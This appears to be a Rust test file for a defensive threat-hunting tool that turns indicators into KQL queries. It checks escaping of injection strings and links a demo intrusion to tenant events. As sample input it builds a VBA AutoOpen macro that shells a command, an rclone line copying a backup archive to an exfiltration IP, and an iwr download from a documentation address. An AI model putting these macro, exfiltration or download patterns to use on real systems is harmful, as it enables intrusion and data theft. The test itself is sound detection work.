//! Linking indicators to the environment: hostile indicator text stays inside its KQL string
//! literal, and a small demo tenant's intrusion is found from its macro command line and
//! exfiltration address.

use bulwark_kql::exec::{Engine, QueryOptions};
use bulwark_scripts::link::kql_string;
use bulwark_scripts::{AnalyzeOptions, LinkOptions, analyze, link, render_links};

#[test]
fn hostile_indicator_text_cannot_change_the_query() {
    let engine = Engine::empty();
    let hostile = [
        "plain",
        "a\"b",
        "back\\slash\\",
        "ends with backslash \\",
        "\" | take 0 //",
        "line1\nline2\r\n\"; print y = 1",
        "\\\"\\\"",
        "tab\there \u{0} nul \u{1b}[31m esc \u{2028} sep \u{7f}",
        "@\"verbatim\"",
        "'single' and ''doubled''",
        "h\u{e9}llo \u{1f600} \\u0041",
    ];
    for h in hostile {
        let q = format!("print v = {}, w = 1", kql_string(h));
        let out = engine.query_blocking(&q, &QueryOptions::default()).unwrap();
        assert_eq!(out.row_count, 1, "{q}");
        assert_eq!(out.columns.len(), 2, "{q}");
        assert_eq!(out.rows_text()[0][0], h, "{q}");
        assert!(!kql_string(h).contains('\n'));
    }
}

#[test]
fn demo_intrusion_is_found_from_its_command_line_and_exfil_ip() {
    let dir = tempfile::tempdir().unwrap();
    let store = bulwark_store::Store::open(dir.path()).unwrap();
    let options = bulwark_demo::DemoOptions { events: 20_000, ..Default::default() };
    let summary = bulwark_demo::write_demo(&store, &options, &mut |_| {}).unwrap();
    let s = summary.ground_truth.scenarios.iter().find(|s| s.id == "intrusion").unwrap();
    let macro_cmd = s.facts["macro_child_command_line"].as_str().unwrap();
    let exfil_ip = s.facts["exfil_ip"].as_str().unwrap();
    let server = s.facts["lateral_target"].as_str().unwrap();
    let pz_device = s.patient_zero_device.as_deref().unwrap();
    let pz_user = s.patient_zero_user.as_deref().unwrap();
    let script = format!(
        "Sub AutoOpen()\r\n  Shell \"{macro_cmd}\", 0\r\nEnd Sub\r\n' rclone copy C:\\ProgramData\\backup.7z remote: --http-url https://{exfil_ip}/u\r\n"
    );
    let a = analyze(&script, &AnalyzeOptions::default());
    let links = bulwark_scripts::link_store(&a, &store, &LinkOptions::default()).unwrap();
    assert!(links.errors.is_empty(), "{:?}", links.errors);
    let devices = links.devices();
    let accounts = links.accounts();
    assert!(devices.contains_key(pz_device), "{devices:?}");
    assert!(accounts.contains_key(pz_user), "{accounts:?}");
    // The macro's child command line is found as written, on patient zero, with its query.
    let cmd = links
        .links
        .iter()
        .find(|l| l.kind == "command_line" && l.table == "DeviceProcessEvents")
        .unwrap();
    assert_eq!(cmd.devices, [pz_device]);
    assert!(cmd.query.starts_with("DeviceProcessEvents\n| where ProcessCommandLine contains"));
    assert!(cmd.first_seen.is_some() && cmd.rows >= 1);
    assert!(!cmd.samples.is_empty());
    // The exfiltration address leads to the file server.
    let ip = links
        .links
        .iter()
        .find(|l| l.indicator == exfil_ip && l.table == "DeviceNetworkEvents")
        .unwrap();
    assert!(ip.devices.iter().any(|d| d == server), "{:?}", ip.devices);
    assert!(ip.query.contains(&format!("RemoteIP == \"{exfil_ip}\"")));
    // Every query shown runs again to the same count.
    let engine = Engine::open(&store).unwrap();
    let again = engine.query_blocking(&ip.query, &QueryOptions::default()).unwrap();
    assert_eq!(again.to_json_rows()[0]["Rows"].as_u64(), Some(ip.rows));
    let text = render_links(&links);
    assert!(text.contains("## Seen in your environment") && text.contains(pz_device), "{text}");
    // An indicator absent from the tenant is reported as not seen, with its queries.
    let b = analyze("iwr http://203.0.113.250/nothing-here", &AnalyzeOptions::default());
    let none = link(&b, &engine, &LinkOptions::default());
    assert!(none.links.is_empty(), "{:?}", none.links);
    assert!(none.not_seen.iter().any(|n| n.indicator == "203.0.113.250" && !n.queries.is_empty()));
}
